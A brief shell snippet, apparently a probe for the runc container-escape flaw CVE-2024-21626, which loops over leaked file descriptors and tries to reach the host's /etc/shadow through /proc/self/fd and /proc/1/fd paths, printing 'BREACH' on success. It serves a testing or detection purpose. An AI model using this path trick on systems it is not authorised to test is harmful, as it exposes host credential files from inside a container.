# Looks for a folder of the host that was left open for it (CVE-2024-21626).
#: ends completed
for n in 3 4 5 6 7 8 9 10; do
    ls "/proc/self/fd/$n/../../../etc/shadow" 2>/dev/null && echo "BREACH fd $n"
    ls "/proc/1/fd/$n/../../../etc/shadow" 2>/dev/null && echo "BREACH fd $n of 1"
done
true
